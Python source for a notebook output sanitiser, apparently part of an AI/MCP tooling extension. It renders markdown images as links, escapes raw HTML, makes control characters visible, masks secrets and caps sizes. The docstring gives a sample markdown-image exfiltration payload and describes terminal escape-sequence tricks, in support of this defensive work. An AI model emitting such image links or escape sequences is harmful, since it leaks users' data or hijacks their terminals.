"""What makes every view safe to show: no remote loads, no terminal control sequences, no markup from data.

Views show text written by others (files, models, MCP servers, commands). Two things in it must not
reach the notebook as they are:

- Markdown images: `![](https://host/collect?d=secret)` would be fetched the moment the output is
  shown, so a file or a model could send data out just by being displayed. `markdown_html` renders
  every image whose source is not inline data as a link the person may click (the "load" action);
  raw HTML is escaped (markdown-it's js-default preset), javascript:/vbscript:/file: links refused.
- Control characters: ESC starts terminal sequences (OSC title, OSC 52 clipboard writes, screen
  clears, CSI colours and cursor moves) that a front end or a terminal reading the text/plain may
  act on; C1 controls do the same in one byte; bidi overrides make text read differently from what
  it is. `visible` turns each into a visible stand-in (␛, ␇, \\x9b, ⟨U+202E⟩); newline and tab stay.

`safe_bundle` applies `visible` to both text/plain and text/html of a display bundle: every place
that builds a bundle calls it, so the rule does not depend on each view escaping each field.
"""

from __future__ import annotations

import html
from functools import cache
from typing import Any

from ..runtime.base.controls import visible
from ..runtime.base.names import escape
from ..runtime.base.secrets import mask, mask_data

__all__ = ["markdown_html", "safe_bundle", "visible"]


# What one displayed result may put into the notebook: a 100 MB MCP result shown whole froze the page
# and went into the .ipynb. Past these, the view is cut and says so; the ToolResult object keeps it all.
PLAIN_LIMIT = 1024 * 1024  # characters of text/plain
HTML_LIMIT = 8 * 1024 * 1024  # characters of text/html (inline pictures included)
DATA_LIMIT = 8 * 1024 * 1024  # bytes of the raw result embedded as JSON


def safe_bundle(bundle: dict[str, Any]) -> dict[str, Any]:
    """The bundle with text/plain and text/html made `visible` (and lone surrogates escaped), secrets masked
    (runtime/base/secrets.py: configured keys, header values, URL credentials), sizes bounded."""
    out = dict(bundle)
    for key in ("text/plain", "text/html"):
        if isinstance(out.get(key), str):
            # a lone surrogate (a non-UTF-8 name in the arguments of a call) would fail the kernel's JSON
            out[key] = visible(escape(mask(out[key])))
    plain = out.get("text/plain")
    if isinstance(plain, str) and len(plain) > PLAIN_LIMIT:
        out["text/plain"] = plain[:PLAIN_LIMIT] + f"\n… [{len(plain) - PLAIN_LIMIT} more characters not shown]"
    html_text = out.get("text/html")
    if isinstance(html_text, str) and len(html_text) > HTML_LIMIT:
        # cutting markup would break it: the (bounded) plain text stands in for the whole view
        out["text/html"] = (
            f'<div class="cireil" style="white-space:pre-wrap;font-family:monospace">'
            f"<b>view too large to show ({len(html_text):,} characters of HTML); its text:</b>\n"
            f"{_esc(out.get('text/plain', ''))}</div>"
        )
    for key, value in list(out.items()):
        if key.endswith("+json") and _too_big(value):
            out[key] = {"truncated": True, "note": "too large to embed in the notebook; the ToolResult has it all"}
        elif key.endswith("+json"):
            out[key] = mask_data(value)  # embedded in the saved notebook like the text
    return out


def _too_big(value: Any) -> bool:
    import json

    try:
        return len(json.dumps(value, ensure_ascii=False, default=str)) > DATA_LIMIT
    except (ValueError, RecursionError):
        return True


def _esc(value: str) -> str:
    return html.escape(value, quote=True)


def _inside_link(tokens: list, idx: int) -> bool:
    depth = 0
    for token in reversed(tokens[:idx]):
        if token.type == "link_close":
            depth += 1
        elif token.type == "link_open":
            if depth == 0:
                return True
            depth -= 1
    return False


def _image(self: Any, tokens: list, idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = self.renderInlineAsText(token.children or [], options, env) or "image"
    if src.startswith("data:image/"):  # inline data (validated by the preset: png/gif/jpeg/webp): no request
        return f'<img src="{_esc(src)}" alt="{_esc(alt)}" style="max-width:100%">'
    label = f"🖼 {_esc(alt)}"
    if not src or _inside_link(tokens, idx):
        return f'<span title="image not loaded">{label}</span>'
    return (
        f'<a href="{_esc(src)}" target="_blank" rel="noopener noreferrer nofollow"'
        f' title="image not loaded; click to open {_esc(src)}">{label}</a>'
    )


def _link_open(self: Any, tokens: list, idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    token.attrSet("target", "_blank")
    token.attrSet("rel", "noopener noreferrer nofollow")  # no referrer: the page opened learns nothing
    return self.renderToken(tokens, idx, options, env)


@cache
def _markdown() -> Any:
    from markdown_it import MarkdownIt  # lazy: only showing Markdown needs it

    # js-default: CommonMark + tables and strikethrough, raw HTML escaped, javascript:/vbscript:/file:
    # and non-image data: URLs refused
    md = MarkdownIt("js-default")
    md.add_render_rule("image", _image)
    md.add_render_rule("link_open", _link_open)
    return md


MAX_NESTING = 20  # markdown-it's own cap on block nesting is 100; quotes 20 deep are plenty to read


def markdown_html(text: str) -> str:
    """Markdown as HTML that loads nothing from anywhere: images become links, raw HTML is text."""
    md = _markdown()
    md.options["maxNesting"] = MAX_NESTING
    return md.render(text)
